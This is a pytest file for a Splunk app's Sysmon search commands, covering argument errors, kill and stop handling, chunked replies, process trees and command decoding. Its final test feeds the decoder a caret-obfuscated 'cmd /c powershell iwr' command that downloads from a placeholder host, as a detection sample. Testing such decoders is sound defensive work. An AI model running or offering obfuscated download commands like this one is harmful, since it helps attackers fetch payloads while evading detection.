"""The search commands of the built package, driven as splunkd drives them."""

from __future__ import annotations

import contextlib
import random
import signal
import threading
from typing import TYPE_CHECKING

import pytest

from tests.commands.splunkd import Conversation, search
from tests.unit.sysmon_essentials.readers import layouts

if TYPE_CHECKING:
    from pathlib import Path

COMMANDS = ("sysmonnormalize", "sysmontree", "sysmondecode", "sysmonconfig")
KILLS_EACH = 7
"""Times four commands and two Pythons: more than fifty moments."""
XML = layouts.windows_xml()
DNS = layouts.windows_xml({"UtcTime": "2026-03-04 07:15:23.000", "QueryName": "files.example.net"}, code=22)
CHILD = {**layouts.FIELDS, "ProcessGuid": "{7c41b9e2-42aa-66f0-9b01-000000002f01}", "ProcessId": "7001"}
CHILD["ParentProcessGuid"] = layouts.FIELDS["ProcessGuid"]


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("sysmonnormalize", "streaming"),
        ("sysmondecode", "streaming"),
        ("sysmontree", "reporting"),
        ("sysmonconfig", "reporting"),
    ],
)
def test_kind_of_command(scripts: Path, python: str, tmp_path: Path, name: str, kind: str) -> None:
    answer = search(python, scripts / f"{name}.py", tmp_path, [[{"_raw": XML}]])
    assert answer.configuration["type"] == kind
    assert "streaming_preop" not in answer.configuration
    assert (answer.status, answer.errors) == (0, "")


@pytest.mark.parametrize("name", COMMANDS)
@pytest.mark.parametrize("argument", ["nonsense=1", "word", "record=1"], ids=["unknown", "no option", "of the SDK"])
def test_wrong_argument_ends_the_search(scripts: Path, python: str, tmp_path: Path, name: str, argument: str) -> None:
    answer = search(python, scripts / f"{name}.py", tmp_path, [[{"_raw": XML}]], [argument])
    assert (answer.status, answer.replies) == (1, 0)
    (message,) = answer.messages
    assert message[0] == "ERROR"
    assert argument.partition("=")[0] in message[1]


@pytest.mark.parametrize(
    "case",
    [
        ("sysmonnormalize", "keep=perhaps", "true or false"),
        ("sysmontree", "events=-1", "from 0 to 1000"),
        ("sysmontree", "format=svg", "rows, text, json"),
        ("sysmondecode", "maxdepth=1e9", "from 1 to 100"),
        ("sysmonconfig", "approved=yes", "SHA256="),
    ],
    ids=["keep", "events", "format", "maxdepth", "approved"],
)
def test_wrong_value_is_told_with_what_is_allowed(
    scripts: Path, python: str, tmp_path: Path, case: tuple[str, str, str]
) -> None:
    name, argument, allowed = case
    answer = search(python, scripts / f"{name}.py", tmp_path, [], [argument])
    assert answer.status == 1
    assert argument in answer.messages[0][1]
    assert allowed in answer.messages[0][1]


@pytest.mark.parametrize("name", COMMANDS)
def test_empty_input_gives_an_empty_answer(scripts: Path, python: str, tmp_path: Path, name: str) -> None:
    answer = search(python, scripts / f"{name}.py", tmp_path, [[]])
    assert (answer.rows, answer.replies, answer.status, answer.messages) == ([], 1, 0, [])


@pytest.mark.parametrize("name", COMMANDS)
def test_early_end_of_input_is_no_error(scripts: Path, python: str, tmp_path: Path, name: str) -> None:
    talk = Conversation(python, scripts / f"{name}.py", tmp_path)
    talk.getinfo([])
    talk.execute([{"_raw": XML}], last=False)
    answer = talk.end()
    assert (answer.status, answer.errors) == (0, "")


@pytest.mark.parametrize("name", COMMANDS)
def test_request_to_stop_ends_the_command_without_a_torn_answer(
    scripts: Path, python: str, tmp_path: Path, name: str
) -> None:
    talk = Conversation(python, scripts / f"{name}.py", tmp_path)
    talk.getinfo([])
    talk.execute([{"_raw": XML}], last=False)
    talk.process.send_signal(signal.SIGTERM)
    rest, errors = talk.process.communicate(timeout=30)
    assert (rest, errors) == (b"", b"")


@pytest.mark.parametrize("name", COMMANDS)
@pytest.mark.parametrize("seed", range(KILLS_EACH), ids=str)
def test_command_killed_at_any_moment_leaves_whole_answers_and_no_files(
    scripts: Path, python: str, tmp_path: Path, name: str, seed: int
) -> None:
    talk = Conversation(python, scripts / f"{name}.py", tmp_path)
    talk.getinfo([])
    chance = random.Random(f"{name} {seed}")
    killer = threading.Timer(chance.uniform(0, 0.05), talk.process.kill)
    killer.start()
    with contextlib.suppress(AssertionError, BrokenPipeError, ValueError):
        while talk.process.poll() is None:
            talk.execute([{"_raw": XML, "_time": "1772608522"}] * chance.randint(1, 200), last=False)
    killer.join()
    with contextlib.suppress(BrokenPipeError):
        talk.process.communicate(timeout=30)
    assert talk.process.returncode == -signal.SIGKILL
    assert all(row["_raw"] == XML for row in talk.answer.rows)
    assert list(tmp_path.iterdir()) == []


def test_command_ends_quietly_when_splunkd_no_longer_listens(scripts: Path, python: str, tmp_path: Path) -> None:
    talk = Conversation(python, scripts / "sysmonnormalize.py", tmp_path)
    talk.getinfo([])
    assert talk.process.stdout is not None
    talk.process.stdout.close()
    talk.send({"action": "execute", "preview": False, "finished": True})
    assert talk.process.stdin is not None
    talk.process.stdin.close()
    assert talk.process.wait(30) == 1
    assert talk.process.stderr is not None
    assert b"Exception ignored" not in talk.process.stderr.read()


def test_normalize_answers_each_chunk_and_never_drops_an_event(scripts: Path, python: str, tmp_path: Path) -> None:
    chunks = [
        [{"_raw": XML, "n": "1"}, {"_raw": "{broken} Sysmon", "n": "2"}],
        [{"_raw": "other", "n": "3"}, {"n": "4"}],
    ]
    answer = search(python, scripts / "sysmonnormalize.py", tmp_path, chunks)
    assert [row["n"] for row in answer.rows] == ["1", "2", "3", "4"]
    assert answer.replies == 2
    assert answer.rows[0]["process_name"] == "harborsync.exe"
    assert answer.rows[0]["process_hash"] == ["0F1E2D3C4B5A69788796A5B4C3D2E1F00F1E2D3C", "1A2B3C4D" * 8]
    levels = dict(answer.messages)
    assert levels["WARN"].startswith("2 of 4 events could not be read")
    assert levels["INFO"] == "1 of 4 events are not Sysmon's"


def test_field_of_a_later_record_gets_its_column(scripts: Path, python: str, tmp_path: Path) -> None:
    answer = search(python, scripts / "sysmonnormalize.py", tmp_path, [[{"_raw": "other"}, {"_raw": DNS}]])
    assert answer.rows[1]["query"] == "files.example.net"


def test_multivalue_fields_come_through(scripts: Path, python: str, tmp_path: Path) -> None:
    values = ["a$b", "c;$$d", 'say "x",\ny']
    rows = [{"_raw": "other", "mv": values}, {"_raw": "other", "mv": "one"}]
    answer = search(python, scripts / "sysmonnormalize.py", tmp_path, [rows])
    assert [row["mv"] for row in answer.rows] == [values, "one"]


def test_strict_search_ends_at_the_first_bad_event(scripts: Path, python: str, tmp_path: Path) -> None:
    talk = Conversation(python, scripts / "sysmonnormalize.py", tmp_path)
    talk.getinfo(["strict=true"])
    talk.execute([{"_raw": XML}, {"_raw": "{broken} Sysmon"}], last=True)
    answer = talk.end()
    assert answer.status == 1
    assert answer.messages[0][0] == "ERROR"
    assert "event 2" in answer.messages[0][1]


def test_tree_waits_for_the_last_chunk(scripts: Path, python: str, tmp_path: Path) -> None:
    chunks = [[{"_raw": layouts.windows_xml(CHILD)}], [], [{"_raw": XML}]]
    answer = search(python, scripts / "sysmontree.py", tmp_path, chunks)
    names = [(row["process_guid"], row["depth"]) for row in answer.rows if row["kind"] == "process"]
    assert names == [
        (layouts.FIELDS["ParentProcessGuid"], "0"),
        (layouts.FIELDS["ProcessGuid"], "1"),
        (CHILD["ProcessGuid"], "2"),
    ]


def test_tree_gives_its_rows_in_as_many_replies_as_they_need(scripts: Path, python: str, tmp_path: Path) -> None:
    rows = [{"_raw": layouts.windows_xml({**CHILD, "ProcessGuid": f"{{{number:08x}-0}}"})} for number in range(25)]
    answer = search(python, scripts / "sysmontree.py", tmp_path, [rows], maxresultrows=10)
    assert (len(answer.rows), answer.replies) == (26, 3)


def test_preview_does_not_take_part_of_the_tree_away(scripts: Path, python: str, tmp_path: Path) -> None:
    talk = Conversation(python, scripts / "sysmontree.py", tmp_path)
    talk.getinfo([])
    assert talk.execute([{"_raw": XML}], last=True, preview=True)
    shown = len(talk.answer.rows)
    assert talk.execute([{"_raw": XML}, {"_raw": layouts.windows_xml(CHILD)}], last=True)
    assert (shown, len(talk.end().rows) - shown) == (2, 3)


def test_decode_reads_a_field_and_adds_three(scripts: Path, python: str, tmp_path: Path) -> None:
    rows = [{"line": "cmd /c p^o^w^e^r^s^h^e^l^l iwr http://files.example.net/a"}, {"line": "cmd /c dir"}]
    answer = search(python, scripts / "sysmondecode.py", tmp_path, [rows], ["field=line", "prefix=d_"])
    assert answer.rows[0]["d_text"] == "cmd /c powershell iwr http://files.example.net/a"
    assert (answer.rows[0]["d_layers"], "url:http://files.example.net/a" in answer.rows[0]["d_indicators"]) == (
        "caret",
        True,
    )
    assert answer.rows[1] == {"line": "cmd /c dir"}
